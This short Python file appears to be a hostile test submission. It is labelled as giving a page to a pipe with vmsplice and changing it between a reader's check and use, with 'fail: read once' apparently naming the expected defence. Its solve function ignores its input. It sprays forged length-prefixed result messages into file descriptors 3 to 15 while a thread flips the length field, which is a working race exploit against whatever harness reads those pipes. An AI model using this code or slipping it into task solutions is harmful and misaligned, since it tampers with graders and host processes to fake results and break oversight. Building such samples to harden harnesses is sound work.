"""gives a page to the pipe (vmsplice) and changes it after it was sent, between a reader's check and use | fail: read once"""
import ctypes
import mmap
import os
import threading


class Vector(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]


def flip(page):
    while True:
        page[0:4] = b"\x10\0\0\0"
        page[0:4] = b"\xff\xff\xff\x7f"


def solve(xs):
    page = mmap.mmap(-1, 4096)
    page.write(b'\x10\0\0\0{"k":"ret","v":0}' * 150)
    vector = Vector(ctypes.addressof(ctypes.c_char.from_buffer(page)), 4096)
    threading.Thread(target=flip, args=(page,), daemon=True).start()
    libc = ctypes.CDLL(None)
    for fd in range(3, 16):
        libc.vmsplice(fd, ctypes.byref(vector), 1, 8 | 2)
    os.write(2, b"gifted")
    return None
